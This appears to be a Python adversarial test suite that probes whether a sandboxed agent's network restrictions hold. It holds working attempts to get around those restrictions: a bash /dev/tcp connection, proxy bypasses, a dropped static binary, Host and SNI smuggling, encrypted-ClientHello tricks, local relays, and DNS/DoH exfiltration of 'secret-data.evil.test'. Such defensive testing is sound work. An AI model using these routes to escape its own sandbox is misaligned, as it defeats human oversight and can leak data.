"""Run as an agent with the network: tries to reach what no rule lists (rows 11 to 15 and 17).

Its facts are the ports of servers outside, the names and heads to try, and a static program.
"""

import contextlib
import os
import socket
import ssl
import struct
import subprocess
import time
import urllib.request

from tests.adversary.attempting import attempt, attempts, facts, report

PLAIN, SECURE, WEB, WEBS = (facts[name] for name in ("plain", "secure", "web", "webs"))
FAR = "198.51.100.7"
LOCAL_RESOLVER = "127.0.0.53"


def exchange(host: str, port: int, data: bytes) -> str:
    with socket.create_connection((host, port), timeout=10) as connection:
        connection.sendall(data)
        found = b""
        while piece := connection.recv(65536):
            found += piece
    return found[:12].decode()


def get(host: str, port: int, named: str = "") -> str:
    named = named or f"{host}:{port}"
    return exchange(host, port, f"GET / HTTP/1.1\r\nHost: {named}\r\n\r\n".encode())


def tls(host: str, port: int, name: str | None, named: str = "api.test") -> str:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with (
        socket.create_connection((host, port), timeout=10) as raw,
        context.wrap_socket(raw, server_hostname=name) as secure,
    ):
        secure.sendall(f"GET / HTTP/1.1\r\nHost: {named}\r\n\r\n".encode())
        return secure.recv(12).decode()


def in_pieces(host: str, port: int, pieces: list[str]) -> str:
    """Sends them one after the other; what comes back first."""
    with socket.create_connection((host, port), 5) as connection:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for piece in pieces:
            connection.sendall(bytes.fromhex(piece))
            time.sleep(0.02)
        return connection.recv(12).decode("latin-1")


def second_hello(name: bytes) -> object:
    """A handshake with a server that asks for a second ClientHello, which names a host."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl._create_unverified_context()
    client = context.wrap_bio(incoming, outgoing, server_hostname="api.test")
    with socket.create_connection(("api.test", SECURE), 5) as connection:
        for hello in range(8):
            try:
                client.do_handshake()
            except ssl.SSLWantReadError:
                sent = outgoing.read()
                connection.sendall(sent if hello == 0 else sent.replace(b"api.test", name))
                incoming.write(connection.recv(65536))
            else:
                return f"{client.version()} after {hello} flights"
    return ""


def encrypted_hello(name: str | None, kind: int = 0, code: int = 0xFE0D) -> object:
    """A ClientHello with an encrypted one in it, or a decoy; how the answer begins."""
    context = ssl._create_unverified_context()
    context.check_hostname = False
    outgoing = ssl.MemoryBIO()
    client = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    body = outgoing.read()[9:]
    suites = 35 + body[34]
    compression = suites + 2 + int.from_bytes(body[suites : suites + 2], "big")
    at = compression + 1 + body[compression]
    hidden = bytes((kind,)) + b"\0\1\0\1\x2a\0\x20" + os.urandom(32) + b"\0\x90" + os.urandom(144)
    extensions = body[at + 2 :] + struct.pack("!HH", code, len(hidden)) + hidden
    body = body[:at] + struct.pack("!H", len(extensions)) + extensions
    handshake = b"\1" + len(body).to_bytes(3, "big") + body
    record = b"\x16\3\1" + struct.pack("!H", len(handshake)) + handshake
    with socket.create_connection(("api.test", SECURE), 5) as connection:
        connection.sendall(record)
        return connection.recv(3).hex()


def query(name: bytes, server: str = LOCAL_RESOLVER, tcp: bool = False, port: int = 53) -> object:
    """Response code and number of answers."""
    labels = b"".join(bytes([len(part)]) + part for part in name.split(b"."))
    text = struct.pack("!6H", 1, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)
    how = socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM
    with socket.socket(socket.AF_INET, how) as connection:
        connection.settimeout(10)
        connection.connect((server, port))
        connection.sendall(struct.pack("!H", len(text)) + text if tcp else text)
        reply = connection.recv(512)
        reply = reply[2:] if tcp else reply
        if len(reply) < 12:
            return "closed"
        _, flags, _, answers, _, _ = struct.unpack_from("!6H", reply)
        return [flags & 15, answers]


def looked_up(name: str) -> object:
    try:
        return sorted({row[4][0] for row in socket.getaddrinfo(name, 80, type=socket.SOCK_STREAM)})
    except (socket.gaierror, UnicodeError) as error:
        return type(error).__name__


def datagram(address: str, port: int) -> str:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as connection:
        connection.settimeout(10)
        connection.connect((address, port))
        connection.send(b"x")
        return connection.recv(10).decode()


def passed_on(taken: socket.socket) -> None:
    """A relay: carries one exchange to a host that no rule lists."""
    with contextlib.suppress(OSError):
        onward = socket.create_connection((FAR, 80), timeout=10)
        onward.sendall(taken.recv(1000))
        taken.sendall(onward.recv(1000))


def through(listening: socket.socket) -> str:
    """What comes back through another process of this agent that forwards."""
    child = os.fork()
    if child == 0:
        with contextlib.suppress(OSError):
            passed_on(listening.accept()[0])
        os._exit(0)
    try:
        with socket.socket(listening.family) as connection:
            connection.connect(listening.getsockname())
            connection.sendall(b"GET / HTTP/1.1\r\nHost: api.test\r\n\r\n")
            with contextlib.suppress(ConnectionResetError):
                return connection.recv(100).decode()
    finally:
        listening.close()
        os.waitpid(child, 0)
    return ""


def each(name: str, function: object, *args: object) -> None:
    attempts[name] = lambda: function(*args)  # type: ignore[operator]


each("allowed", get, "api.test", PLAIN)
each("allowed tls", tls, "api.test", SECURE, "api.test")


@attempt
def proxy_variables() -> object:
    return [name for name in os.environ if "proxy" in name.lower()]


@attempt
def without_proxy() -> object:
    urllib.request.install_opener(urllib.request.build_opener(urllib.request.ProxyHandler({})))
    try:
        urllib.request.urlopen(f"http://{FAR}/", timeout=10)
    except urllib.error.URLError as error:
        return type(error.reason).__name__
    except OSError as error:
        return type(error).__name__
    return "reached"


@attempt
def with_a_proxy_of_the_hosts() -> object:
    os.environ["http_proxy"] = f"http://127.0.0.1:{PLAIN}"
    try:
        urllib.request.urlopen("http://evil.test/", timeout=10)
    except urllib.error.URLError as error:
        return type(error.reason).__name__
    return "reached"


@attempt
def static_program() -> object:
    """Without libc there is nothing to preload, configure or forget."""
    with open("/workspace/static", "wb") as file:
        file.write(bytes.fromhex(facts["static"]))
    os.chmod("/workspace/static", 0o700)
    return subprocess.run(["/workspace/static"], timeout=20).returncode


@attempt
def bash() -> object:
    line = f"exec 3<>/dev/tcp/{FAR}/80 && echo GET / >&3 && cat <&3"
    return subprocess.run(["bash", "-c", line], capture_output=True, timeout=20).stdout.decode()


each("raw socket", socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
each("packet socket", socket.socket, socket.AF_PACKET, socket.SOCK_RAW)


@attempt
def transparent() -> None:
    """IP_TRANSPARENT, to speak with any address as one's own, asks for CAP_NET_ADMIN."""
    with socket.socket() as connection:
        connection.setsockopt(socket.SOL_IP, 19, 1)


for index, (name, port) in enumerate(
    [("8.8.8.8", 80), ("169.254.169.254", 80), (FAR, 443), ("198.18.77.7", PLAIN), ("10.0.0.1", 22)]
):
    each(f"address {index}", get, name, port)
each("address 6", get, "2001:4860:4860::8888", 80)
each("loopback of the host", get, "127.0.0.1", PLAIN)

for index, name in enumerate(facts["names"]):
    each(f"name {index}", looked_up, name)
for index, name in enumerate(facts["labels"]):
    each(f"label {index}", query, bytes.fromhex(name))
for index, head in enumerate(facts["heads"]):
    each(f"head {index}", exchange, "web.test", WEB, head.encode("latin-1"))
for index, name in enumerate(facts["server_names"]):
    each(f"sni {index}", tls, "api.test", SECURE, name)

for index, pieces in enumerate(facts["odd"]):
    each(f"odd {index}", in_pieces, "api.test", PLAIN, pieces)
each("second hello", second_hello, b"api.test")
each("second hello for another", second_hello, b"evil.tst")

each("encrypted hello", encrypted_hello, "api.test")
each("encrypted hello beside another name", encrypted_hello, "evil.test")
each("encrypted hello beside no name", encrypted_hello, None)
each("inner hello", encrypted_hello, "api.test", 1)
each("encrypted hello of a draft", encrypted_hello, "api.test", 0, 0xFE0A)
each("encrypted name", encrypted_hello, "api.test", 0, 0xFFCE)

each("relay by TCP", lambda: through(socket.create_server(("127.0.0.1", 0))))


@attempt
def relay_by_a_path() -> object:
    listening = socket.socket(socket.AF_UNIX)
    listening.bind("/tmp/relay")
    listening.listen()
    return through(listening)


each("listed name to another address", tls, "8.8.8.8", 443, "api.test")
each("other name to a listed address", tls, "api.test", SECURE, "evil.test")
each("no name", tls, "web.test", WEBS, None)
each("plain on 443", get, "web.test", WEBS, "web.test")
each("another Host on 80", get, "web.test", WEB, "evil.test")
each("TLS on 80 for another", tls, "web.test", WEB, "evil.test")
each("UDP 443 to a listed name", lambda: datagram(socket.gethostbyname("api.test"), 443))
each("UDP 443", datagram, "8.8.8.8", 443)

each("libc", looked_up, "secret-data.evil.test")
each("UDP 53", query, b"secret-data.evil.test", "8.8.8.8")
each("UDP 53 to the host", query, b"secret-data.evil.test", "127.0.0.1")
each("TCP 53", query, b"secret-data.evil.test", "8.8.8.8", True)
each("resolver of the sandbox", query, b"secret-data.evil.test")
each("resolver of the sandbox by TCP", query, b"secret-data.evil.test", LOCAL_RESOLVER, True)
each("DoT", tls, "8.8.8.8", 853, "dns.google", "dns.google")
each("DoH", tls, "8.8.8.8", 443, "dns.google", "dns.google")
each("DoH by its name", tls, "dns.google", 443, "dns.google", "dns.google")
each("mDNS", datagram, "224.0.0.251", 5353)
each("DNS by IPv6", datagram, "2001:4860:4860::8888", 53)

each("listed port of a local name", get, "local.test", PLAIN)
each("other port of a local name", get, "local.test", SECURE)
each("privileged port of a local name", get, "local.test", 22)
report()
